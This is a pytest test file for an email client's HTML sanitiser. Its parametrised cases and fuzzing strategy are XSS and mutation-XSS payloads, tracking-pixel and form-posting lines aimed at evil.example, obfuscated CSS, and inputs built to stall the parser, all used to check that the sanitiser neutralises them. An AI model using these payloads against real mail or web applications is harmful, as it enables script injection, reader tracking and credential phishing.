"""No message does anything to its reader but be read."""

import json
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.html import from_text, render, sanitise, to_text
from tests.support.mail_files import corpus
from tests.support.safe_html import harm_in


def stored_and_shown(html: str) -> tuple[str, str]:
    stored = sanitise(html)
    return stored, render(stored, remote_content=False, cid_url=lambda _: None)


@pytest.mark.parametrize(
    "html", ["<script>x</script>", "<style>x</style>", "<title>x</title>", "<svg><text>x</text></svg>"]
)
def test_the_content_of_active_elements_goes_too(html: str) -> None:
    assert "x" not in sanitise(html)


@pytest.mark.parametrize(
    "html",
    [
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java&#10;script:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<a href="//evil.example/">x</a>',
        '<form action="https://evil.example"><input name=password><button>go</button></form>',
        '<p style="position:fixed;top:0">x</p>',
        '<p style="background:url(https://evil.example/p.gif)">x</p>',
        '<p style="background-color:u\\72l(https://evil.example/p.gif)">x</p>',
        '<p style="width:expression(alert(1))">x</p>',
        "<p id=a class=b onclick=c>x</p>",
        '<img src="https://evil.example/p.gif" srcset="https://evil.example/q.gif 2x">',
        '<img src="data:image/svg+xml,x">',
        '<table background="https://evil.example/p.gif"><tr><td background="//evil.example/p.gif">x</table>',
        '<video poster="https://evil.example/p.gif" src="https://evil.example/v"></video>',
        '<meta http-equiv=refresh content="0;https://evil.example"><base href="https://evil.example">',
        '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
        '<p title="<img src=https://evil.example/p.gif onerror=alert(1)>">x</p>',
        '<img data-remote-src="javascript:alert(1)" data-cid="x">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ],
)
def test_nothing_that_does_something_is_stored_or_shown(html: str) -> None:
    for result in stored_and_shown(html):
        assert harm_in(result) == []


def test_what_makes_a_letter_readable_stays() -> None:
    html = '<p style="color: red; text-align: center">Dear <b>Ana</b>,<br><a href="https://x.example/?a=1&amp;b=2">x</a></p>'
    assert sanitise(html) == (
        '<p style="color: red; text-align: center">Dear <b>Ana</b>,<br>'
        '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a></p>'
    )


def test_remote_images_are_shown_only_when_asked_for() -> None:
    stored = sanitise('<img src="https://x.example/a.png?a=1&b=2" alt="A">')
    assert " src=" not in stored
    assert render(stored, remote_content=False, cid_url=lambda _: None) == stored
    shown = render(stored, remote_content=True, cid_url=lambda _: None)
    assert 'src="https://x.example/a.png?a=1&amp;b=2" referrerpolicy="no-referrer"' in shown
    assert "data-remote-src" not in shown


def test_backgrounds_are_of_the_message_or_none() -> None:
    html = '<table background="https://x.example/a.png"><tr><td background="cid:b">x</td></tr></table>'
    shown = render(sanitise(html), remote_content=True, cid_url=lambda _: "/files/b")
    assert "x.example" not in shown
    assert '<td background="/files/b">' in shown


def test_images_within_the_message_are_shown_by_the_given_links() -> None:
    stored = sanitise('<img src="cid:logo%40example.org"><img src="CID:gone">')
    links = {"logo@example.org": '/files/1?a=1&b="'}
    shown = render(stored, remote_content=False, cid_url=links.get)
    assert '<img src="/files/1?a=1&amp;b=&quot;">' in shown
    assert 'data-cid="gone"' in shown


def test_text_within_an_attribute_is_not_taken_for_a_tag() -> None:
    stored = sanitise("<p title='<img data-remote-src=\"https://evil.example/p.gif\">'>x</p>")
    shown = render(stored, remote_content=True, cid_url=lambda _: None)
    assert "img" not in [tag for tag, _ in tags(shown)]


def test_what_looks_like_a_tag_within_an_attribute_means_none_wherever_it_is_put() -> None:
    stored = sanitise("<p title='</style><img src=x onerror=alert(1)>'>x</p>")
    assert stored == '<p title="&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>'


@pytest.mark.parametrize(
    "style",
    [
        "position: absolute",
        "position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 2147483647",
        "z-index: 99999",
        "margin-top: -500px",
        "margin: 0 0 -1px -1px",
        "text-indent: -9999px",
        "letter-spacing: -1em",
        "word-spacing: -100px",
        "transform: translate(-100px, 0)",
        "visibility: hidden",
        "opacity: 0",
        "clip-path: inset(100%)",
        "content: 'x'",
        "pointer-events: none",
        "cursor: none",
        "animation: x 1s",
        "--x: y",
        "background: url(https://x.example/)",
        "list-style: url(https://x.example/)",
        "list-style-type: url(https://x.example/)",
        "width: calc(100vw - 1px)",
        "color: var(--x)",
        "font-family: x, url(https://x.example/)",
        r"posi\tion: fixed",
        "/**/position: fixed",
        "color: red /* ",
        "behavior: url(#x)",
        "-moz-binding: url(x)",
    ],
)
def test_styles_that_trick_or_load_go(style: str) -> None:
    assert sanitise(f'<p style="{style}">x</p>') in {
        "<p>x</p>",
        '<p style="width: 100%; height: 100%">x</p>',
    }


@pytest.mark.parametrize("style", ["font-family: Arial, -apple-system, 'Segoe UI'", "vertical-align: -2px"])
def test_styles_of_ordinary_mail_stay(style: str) -> None:
    assert sanitise(f'<p style="{style}">x</p>') == f'<p style="{style}">x</p>'


def test_the_empty_line_that_preformatted_text_begins_with_stays() -> None:
    assert sanitise("<pre>\n\n  x</pre>") == "<pre>\n\n  x</pre>"


def tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, attrs))

    Tags().feed(html)
    return found


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One\n two</p><p>Three</p>", "One two\n\nThree"),
        ("a<br>b<br><br>c", "a\nb\n\nc"),
        ("<div>a</div><div>b</div>", "a\nb"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<blockquote>a<blockquote>b</blockquote></blockquote>c", "> a\n>\n> > b\n\nc"),
        ("a&nbsp;b &lt;c&gt; &amp;amp;", "a b <c> &amp;"),
        ("<style>x</style><script>y</script>z", "z"),
        ("no tags", "no tags"),
        ("", ""),
    ],
)
def test_html_is_written_as_plain_text(html: str, text: str) -> None:
    assert to_text(html) == text


def test_text_becomes_html_that_keeps_its_lines() -> None:
    assert from_text("a <b>\n c") == '<div style="white-space: pre-wrap">a &lt;b&gt;\n c</div>'
    assert to_text(sanitise(from_text("a <b>"))) == "a <b>"


@pytest.mark.parametrize(
    "html",
    [
        "x" + "<div>" * 200_000,
        "<a " + " ".join(f"a{number}=1" for number in range(100_000)) + ">x</a>",
        "<p>" + "".join(f"<font size={number}>" for number in range(150)) + "</p>" + "<p>x</p>" * 20_000,
        ("<b>" * 9 + "<div>" + "</b>" * 9 + "</div>") * 8000 + "x",
        "x" + "<" * 1_000_000,
        "x" + "&" * 1_000_000,
        "<td>x" * 200_000,
    ],
)
@pytest.mark.timeout(10)
def test_html_made_to_stall_a_parser_becomes_its_words(html: str) -> None:
    assert "x" in sanitise(html)
    assert harm_in(sanitise(html)[:10_000]) == []
    assert "x" in to_text(html)


def test_html_that_becomes_its_words_has_no_nul() -> None:
    html = "<div>" * 300 + "a\0b"
    assert to_text(html) == "ab"
    assert "\0" not in sanitise(html)


hostile = st.lists(
    st.one_of(
        st.text(max_size=10),
        st.sampled_from(
            [
                "<img",
                "src=",
                "<img",
                "src='cid:x'",
                "onerror=a>",
                "<a",
                "href='",
                "javascript:",
                "<p",
                "style='color:red;",
                "url(",
                "position:fixed;",
                "'",
                '"',
                ">",
                "<!--",
                "-->",
                "<![CDATA[",
                "]]>",
                "<svg>",
                "<math>",
                "<style>",
                "</style>",
                "<script>",
                "</script>",
                "<table>",
                "<td",
                "background='",
                "<b>",
                "</b>",
                "<p",
                'title="<img',
                'src=x>">',
                "&#x6a;",
                "<img/src=cid:%00%ff>",
                "&#0;",
                "&lt;",
                "\x00",
                "data-remote-src='http://a'",
                "data-cid=x",
            ]
        ),
    ),
    max_size=30,
).map(" ".join)


@given(hostile)
def test_no_html_does_anything(html: str) -> None:
    for result in (*stored_and_shown(html), to_text(html)):
        assert "\0" not in result
    assert harm_in(sanitise(html)) == []


@given(st.text(alphabet=st.characters(exclude_categories=["Cc", "Cs"])))
def test_plain_text_survives_being_html(text: str) -> None:
    assert " ".join(to_text(from_text(text)).split()) == " ".join(text.split())


@pytest.mark.parametrize("name", ["bleach", "dompurify", "mail-chatmail"])
def test_no_known_attack_gets_through(name: str) -> None:
    attacks = [json.loads(line)["html"] for line in (corpus("xss") / f"{name}.jsonl").read_text().split("\n") if line]
    assert attacks
    for attack in attacks:
        for result in stored_and_shown(attack):
            assert harm_in(result) == []
